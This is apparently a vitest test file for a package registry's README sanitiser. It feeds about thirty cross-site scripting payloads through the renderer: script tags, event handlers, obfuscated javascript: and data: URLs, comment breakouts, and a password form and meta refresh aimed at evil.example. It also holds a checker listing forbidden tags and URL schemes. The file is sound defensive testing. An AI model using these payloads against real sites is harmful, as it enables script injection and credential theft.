import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { describe, expect, it } from "vitest";
import { renderReadme, VERSION_FILES } from "../worker/web/markdown";

// READMEs are untrusted: each hostile input below is rendered by the same pipeline as at publish,
// and what comes out must carry none of its active content, whatever else survives.

/**
 * What in rendered HTML could run script, load a frame, submit, or escape its box, found by parsing
 * the output as a browser would (parse5): text and attribute values that merely mention `<script`
 * are inert, elements and attributes are not.
 */
function activeContent(html: string): string[] {
	const found: string[] = [];
	const walk = (node: DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment) => {
		if (node.nodeName === "#comment") found.push("a comment");
		if ("tagName" in node) {
			if (FORBIDDEN_TAGS.has(node.tagName)) found.push(`<${node.tagName}>`);
			for (const { name, value } of node.attrs) {
				if (name.startsWith("on") || ["style", "srcdoc", "srcset", "formaction", "xlink:href"].includes(name)) {
					found.push(`${node.tagName}[${name}]`);
				}
				// As a browser reads a URL: whitespace and control characters inside the scheme are dropped.
				const url = [...value]
					.filter((c) => c.charCodeAt(0) > 0x20)
					.join("")
					.toLowerCase();
				if (["href", "src", "action", "cite", "longdesc"].includes(name) && /^(javascript|vbscript|data):/.test(url)) {
					if (!(node.tagName === "img" && name === "src" && url.startsWith("data:image/"))) {
						found.push(`${node.tagName}[${name}=${value}]`);
					}
				}
			}
		}
		if ("childNodes" in node) for (const child of node.childNodes) walk(child);
		if ("content" in node) walk(node.content);
	};
	walk(parseFragment(html));
	return found;
}

const FORBIDDEN_TAGS = new Set([
	"script",
	"iframe",
	"frame",
	"frameset",
	"object",
	"embed",
	"svg",
	"math",
	"form",
	"style",
	"link",
	"meta",
	"base",
	"textarea",
	"button",
	"select",
	"template",
	"noscript",
]);

const HOSTILE: [name: string, markdown: string, keeps?: RegExp][] = [
	["a script tag", "# Hi\n\n<script>globalThis.pwned = 1</script>\n\ntext", /<h1>Hi<\/h1>/],
	["a script tag inline", "before <script>alert(1)</script> after", /before\s+after/],
	[
		"an onerror handler",
		'<img src="x.png" onerror="globalThis.pwned = 1">',
		/<img src="x-registry-version-files:x\.png"/,
	],
	["an onload handler on svg", '<svg onload="alert(1)"><circle r="4"/></svg>'],
	["SVG with a script inside", '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
	["a javascript: link in markdown", "[click](javascript:alert(1))", /<a>click<\/a>/],
	["a javascript: link with entities", '<a href="jav&#x61;script:alert(1)">x</a>'],
	["a javascript: link with whitespace", "[x](\tjavascript:alert(1))"],
	["a vbscript: link", '<a href="vbscript:msgbox(1)">x</a>'],
	["a data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
	["a data: HTML image", '<img src="data:text/html,<script>alert(1)</script>">'],
	[
		"nested iframes",
		'<iframe src="https://evil.example"><iframe srcdoc="<script>alert(1)</script>"></iframe></iframe>',
	],
	["an object and an embed", '<object data="x.swf"></object><embed src="x.swf">'],
	["a form", '<form action="https://evil.example"><input name="password"><button>go</button></form>'],
	["a style element", "<style>body { display: none }</style>text", /text/],
	["an inline style escaping its box", '<div style="position:fixed;inset:0;z-index:9999">cover</div>', /cover/],
	["CSS escapes in a style attribute", '<p style="background:url(\\6a\\61vascript:alert(1))">x</p>'],
	["an HTML comment", "a <!-- hidden --> b", /a\s+b/],
	["a comment that breaks out", "<!-- --!><script>alert(1)</script> -->"],
	["a comment that breaks out with a dash", "<!--><img src=x onerror=alert(1)>-->"],
	["a bogus comment", "<? <img src=x onerror=alert(1)> ?>"],
	["CDATA", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
	["a base tag", '<base href="https://evil.example/">'],
	["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
	["a link tag", '<link rel="stylesheet" href="https://evil.example/x.css">'],
	["math with an href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
	["a template", "<template><script>alert(1)</script></template>"],
	["an unclosed tag", '<img src="x" onerror="alert(1)"'],
	["a textarea breaking out", "<textarea></textarea><script>alert(1)</script>"],
	["noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
	["an autofocus input", '<input autofocus onfocus="alert(1)">'],
	["srcset with javascript", '<img srcset="javascript:alert(1) 1x">'],
];

describe("README sanitising", () => {
	it("has a checker that sees active content where there is some", () => {
		const raw = '<p style="x">a</p><img src=x onerror=go()><a href="javascript:go()">b</a><!-- c --><svg></svg>';
		expect(activeContent(raw)).toEqual(["p[style]", "img[onerror]", "a[href=javascript:go()]", "a comment", "<svg>"]);
	});

	it.each(HOSTILE)("neutralises %s", (_name, markdown, keeps) => {
		const html = renderReadme(markdown);
		expect(activeContent(html), html).toEqual([]);
		if (keeps) expect(html).toMatch(keeps);
	});

	it("prefixes element ids and the in-page links that point at them", () => {
		const html = renderReadme('<h2 id="usage">Usage</h2>\n\n[see usage](#usage)\n\nA note[^1].\n\n[^1]: The note.');
		expect(html).toContain('id="user-content-usage"');
		expect(html).toContain('href="#user-content-usage"');
		expect(html).not.toMatch(/id="(?!user-content-)/);
		// GFM footnotes: the reference and its target agree after prefixing.
		const ref = /href="#(user-content-fn-1)"/.exec(html)?.[1];
		expect(ref).toBeDefined();
		expect(html).toContain(`id="${ref}"`);
	});

	it("marks external links nofollow ugc noopener and keeps markdown features", () => {
		const html = renderReadme(
			"Visit [site](https://example.com).\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done\n\n~~old~~ `code`",
		);
		expect(html).toContain('<a href="https://example.com" rel="nofollow ugc noopener">site</a>');
		expect(html).toContain("<table>");
		expect(html).toContain('<input type="checkbox" checked disabled>');
		expect(html).toContain("<del>old</del>");
		expect(html).toContain("<code>code</code>");
	});

	it("points relative links and images at the version's files and keeps data: images", () => {
		const html = renderReadme('![logo](./docs/logo.png) [guide](docs/guide.md) <img src="data:image/png;base64,AAAA">');
		expect(html).toContain(`src="${VERSION_FILES}docs/logo.png"`);
		expect(html).toContain(`href="${VERSION_FILES}docs/guide.md"`);
		expect(html).toContain('src="data:image/png;base64,AAAA"');
	});
});
